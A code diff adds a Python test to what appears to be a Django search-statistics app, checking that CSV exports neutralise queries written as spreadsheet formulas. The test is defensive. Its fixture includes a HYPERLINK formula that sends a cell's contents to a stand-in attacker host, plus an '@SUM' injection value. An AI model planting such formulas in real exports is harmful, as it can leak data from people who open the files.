@@ -92,6 +92,16 @@ def test_the_report_exports_to_xlsx(reviewer, statistics):
     assert len(values) == 3
 
 
+def test_a_query_written_as_a_formula_is_exported_to_csv_as_text(reviewer):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    SearchDay.objects.create(query_string=formula, date=days_ago(0), searches=2, zero_results=2)
+    SearchDay.objects.create(query_string="@SUM(1+1)", date=days_ago(0), searches=1, zero_results=1)
+    response = reviewer.get(ZERO, {"export": "csv"})
+    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
+    cells = [line.split(",")[0].strip('"') for line in lines[1:]]
+    assert cells and all(cell.startswith("'") for cell in cells)
+
+
 def test_add_a_synonym_opens_the_synonym_form_with_the_query_filled_in(reviewer, statistics):
     html = reviewer.get(ZERO).content.decode()
     link = html_lib.unescape(re.search(r'href="([^"]*)"[^>]*>添加同义词', html)[1])
